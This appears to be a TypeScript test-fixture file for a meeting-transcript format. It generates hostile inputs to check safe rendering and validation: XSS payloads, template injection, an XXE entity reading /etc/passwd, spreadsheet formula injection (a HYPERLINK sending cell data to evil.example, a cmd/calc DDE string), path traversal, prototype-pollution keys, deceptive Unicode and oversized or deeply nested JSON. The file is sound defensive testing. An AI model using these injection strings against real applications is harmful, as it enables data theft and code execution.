import type { Localized, Transcript } from './transcript.ts'

/*
 * Transcripts as a stranger might send them. Made here rather than kept as files: some are large. The
 * unit tests, the browser and the command lines are given the same ones.
 */

/** Words that want to be more than words. `ran` is what they set where one of them is ever run. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  script: '<script>window.ran=1</script>',
  handler: '"><img src=x onerror="window.ran=2"><svg onload=window.ran=3>',
  closing: '</style></title></textarea></svg><iframe src="javascript:top.ran=4">',
  address: 'javascript:window.ran=5//',
  template: '{{constructor.constructor("window.ran=6")()}} #{window.ran=7}',
  entities:
    '&lt;b&gt; &#x3c;script&#x3e; &bomb; ]]><!ENTITY x SYSTEM "file:///etc/passwd">--><?xml?>',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"x")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)*cmd',
  tab: '\t=1+1',
  return: '\r=1+1',
  markdown: '[x](javascript:window.ran=8) ![x](https://evil.example/a.png) <b>|`*_~#',
  quotes: `a"b'c\`d\\e`,
  lines: 'one\r\n\r\ntwo\n# three\n- four',
  override: 'speaks for \u202enobody\u202c, \u2066isolated\u2069 \u202d\u202a\u202b\u2067\u2068',
  unseen: 'ad\u200bmin\u200d\u2060\ufeff \u{e0041}\u3164',
  controls: '\u0000\u0007\u0008\u001b[31mred\u009b2J\u007f\u0085\u2028\u2029',
  halves: 'a\ud800b\udc00c \ufffe\uffff',
  rightToLeft: 'שלום עולם 5 السلام',
  marks: `Z${'\u0316\u0301'.repeat(200)}algo`,
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈',
  word: '长'.repeat(300) + 'W'.repeat(300),
}

/** Ids that mean something to an object, a selector, an address or a file. */
export const HOSTILE_IDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  `a"b'c<d>&e`,
  'javascript:window.ran=9',
  '../../etc/passwd',
  '=1+1',
  '%00%2C&theme=x#y?z',
  `#${'x'.repeat(198)}`,
  '0',
]

const both = (text: string): Localized => ({ zh: text, en: text })

/** A valid transcript in which each hostile text is a name, a label and a point, with hostile ids. */
export function hostileTranscript(): Transcript {
  const texts = Object.values(HOSTILE_TEXTS)
  const idOf = (i: number) => HOSTILE_IDS[i] ?? `id-${i}`
  return {
    format: 'reyi/transcript@2',
    meeting: {
      id: HOSTILE_IDS[5]!,
      title: both(HOSTILE_TEXTS.handler!),
      occasion: both(HOSTILE_TEXTS.closing!),
      place: both(HOSTILE_TEXTS.override!),
    },
    source: {
      publisher: both(HOSTILE_TEXTS.formula!),
      credits: [{ role: both(HOSTILE_TEXTS.script!), names: [both(HOSTILE_TEXTS.markdown!)] }],
      length: 1_000,
      sha256: '0'.repeat(64),
    },
    groups: [{ id: '__proto__', label: both(HOSTILE_TEXTS.script!) }],
    themes: texts.map((text, i) => ({
      id: idOf(i),
      ...(i % 2 === 0 && { group: '__proto__' }),
      label: both(text),
      definition: both(text),
    })),
    speakers: texts.map((text, i) => ({ id: idOf(i), name: both(text), role: both(text) })),
    agenda: texts.map((text, i) => ({
      id: idOf(i),
      ...(i % 3 > 0 && { within: idOf(i - 1) }),
      label: both(text),
      span: { start: 10 * i, end: 10 * i + 9 },
    })),
    votes: texts.map((text, i) => ({
      ...{ agenda: idOf(i), motion: idOf(i), outcome: 'passed', counts: { for: 2, against: 0 } },
      by: [
        { speaker: idOf(i), value: 'for' },
        { name: both(text), value: 'for' },
      ],
      span: { start: 10 * i, end: 10 * i + 9 },
    })),
    points: texts.map((text, i) => ({
      id: idOf(i),
      speaker: idOf(i),
      kind: (['problem', 'recommendation', 'view'] as const)[i % 3]!,
      themes: i % 5 === 4 ? [] : [idOf(i), idOf((i + 1) % texts.length)],
      heading: both(text),
      text: both(text),
      span: { start: 10 * i, end: 10 * i + 9 },
    })),
    terms: texts.map((text) => ({ term: both(text), explanation: both(text) })),
    replies: texts.slice(1).map((_, i) => ({ from: idOf(i + 1), to: idOf(0), kind: 'agrees' })),
  }
}

/** A valid transcript whose names are as long as the format allows, each one word; a point too. */
export function longestTranscript(name: number, text: number): Transcript {
  const word = (letter: string, length: number): Localized => ({
    zh: '长'.repeat(length),
    en: letter.repeat(length),
  })
  const numbers = [0, 1, 2, 3]
  return {
    format: 'reyi/transcript@2',
    meeting: { id: 'long', title: word('T', name), occasion: word('O', name) },
    source: { length: 10, sha256: '0'.repeat(64) },
    groups: [{ id: 'g', label: word('G', name) }],
    themes: numbers.map((i) => ({ id: `t${i}`, group: 'g', label: word('L', name) })),
    speakers: numbers.map((i) => ({ id: `s${i}`, name: word('N', name), role: word('R', name) })),
    agenda: numbers.map((i) => ({ id: `i${i}`, label: word('A', name) })),
    votes: numbers.map((i) => ({
      ...{ agenda: `i${i}`, motion: `p${i}`, outcome: 'passed' },
      by: [{ name: word('V', name), value: 'for' }],
    })),
    points: numbers.map((i) => ({
      id: `p${i}`,
      speaker: `s${i}`,
      kind: 'view',
      themes: [`t${i}`],
      heading: word('H', name),
      text: word('W', i === 0 ? text : name),
    })),
  }
}

/** A small valid transcript as JSON, with some of it put in another's place. */
function plainJson(from?: string, to = ''): string {
  const json = JSON.stringify({
    format: 'reyi/transcript@1',
    meeting: { id: 'm', title: { en: 'Title' } },
    source: { length: 100, sha256: '0'.repeat(64) },
    themes: [{ id: 't', label: { en: 'Label' } }],
    speakers: [{ id: 's', name: { en: 'Name' } }],
    points: [
      {
        id: 'p',
        speaker: 's',
        kind: 'view',
        themes: ['t'],
        text: { en: 'Text' },
        span: { start: 1, end: 9 },
      },
    ],
  })
  if (from !== undefined && !json.includes(from)) throw new Error(`There is no ${from} to replace`)
  return from === undefined ? json : json.replace(from, () => to)
}

const list = (item: string, times: number) => Array(times).fill(item).join(',')

/**
 * Files that are JSON and no transcripts, and the path at which each is refused first. `many` is how
 * often what is repeated is, a million where there is time for it.
 */
export const REFUSED: Readonly<
  Record<string, { readonly path: string; readonly json: (many: number) => string }>
> = {
  'a name of a megabyte': {
    path: 'speakers[0].name.en',
    json: () => plainJson('"Name"', JSON.stringify('n'.repeat(1 << 20))),
  },
  'a label of one word of a megabyte': {
    path: 'themes[0].label.en',
    json: () => plainJson('"Label"', JSON.stringify('长'.repeat(1 << 20))),
  },
  'a text of a megabyte': {
    path: 'points[0].text.en',
    json: () => plainJson('"Text"', JSON.stringify('n '.repeat(1 << 19))),
  },
  'a key of a megabyte': {
    path: `points[0].${'k'.repeat(59)}…`,
    json: () => plainJson('"kind"', `"${'k'.repeat(1 << 20)}":1,"kind"`),
  },
  'a format of a megabyte': {
    path: 'format',
    json: () => plainJson('reyi/transcript@1', 'f'.repeat(1 << 20)),
  },
  '__proto__ as a key': {
    path: 'points[0].__proto__',
    json: () => plainJson('"kind"', '"__proto__":{"polluted":true},"kind"'),
  },
  'constructor as a key': {
    path: 'meeting.constructor',
    json: () => plainJson('"meeting":{', '"meeting":{"constructor":{"prototype":{}},'),
  },
  'NUL in an id': {
    path: 'speakers[0].id',
    json: () => plainJson('[{"id":"s"', '[{"id":"s\\u0000"'),
  },
  'an override in an id': {
    path: 'points[0].id',
    json: () => plainJson('"id":"p"', '"id":"p\u202e"'),
  },
  'a zero-width space in an id': {
    path: 'themes[0].id',
    json: () => plainJson('"id":"t"', '"id":"t\u200b"'),
  },
  'half a pair in an id': {
    path: 'meeting.id',
    json: () => plainJson('"id":"m"', '"id":"\\ud800"'),
  },
  'a day that the month has not': {
    path: 'meeting.date',
    json: () => plainJson('"meeting":{', '"meeting":{"date":"2026-02-30",'),
  },
  'a thirteenth month': {
    path: 'meeting.date',
    json: () => plainJson('"meeting":{', '"meeting":{"date":"2026-13-01",'),
  },
  'an offset beyond numbers': {
    path: 'points[0].span.start',
    json: () => plainJson('"start":1', '"start":1e999'),
  },
  'an offset between characters': {
    path: 'points[0].span.start',
    json: () => plainJson('"start":1', '"start":1.5'),
  },
  'an offset below zero': {
    path: 'points[0].span.start',
    json: () => plainJson('"start":1', '"start":-1'),
  },
  'an offset that is null': {
    path: 'points[0].span.end',
    json: () => plainJson('"end":9', '"end":null'),
  },
  'a title 10,000 lists deep': {
    path: 'meeting.title',
    json: () => plainJson('{"en":"Title"}', '['.repeat(10_000) + ']'.repeat(10_000)),
  },
  'a text a million objects deep': {
    path: 'points[0].text',
    json: (many) => plainJson('{"en":"Text"}', `${'{"en":'.repeat(many)}1${'}'.repeat(many)}`),
  },
  'a point on a million themes': {
    path: 'points[0].themes',
    json: (many) => plainJson('["t"]', `[${list('"t"', many)}]`),
  },
  'a million warnings that are numbers': {
    path: 'parse.warnings[0]',
    json: (many) =>
      plainJson('"points":', `"parse":{"version":"1","warnings":[${list('1', many)}]},"points":`),
  },
  'a million points without anything': {
    path: 'points[0].id',
    json: (many) => plainJson('"points":[', `"points":[${list('{}', many)},`),
  },
  'a million speakers of one id': {
    path: 'speakers[1].id',
    json: (many) =>
      plainJson('{"id":"s","name":{"en":"Name"}}', list('{"id":"s","name":{"en":"x"}}', many)),
  },
}

/** Files that are no JSON, and where each stops being it: at its end where no column is named. */
export const BROKEN: Readonly<
  Record<
    string,
    { readonly line: number; readonly column?: number; readonly json: (many: number) => string }
  >
> = {
  'a comma too many': { line: 2, column: 1, json: () => '{"format": "reyi/transcript@1",\n}' },
  'NaN as an offset': { line: 1, column: 11, json: () => '{"length":NaN}' },
  'a million lists that never end': { line: 1, json: (many) => '['.repeat(many) },
  'a text that never ends': { line: 1, json: (many) => `"${'a'.repeat(many)}` },
}
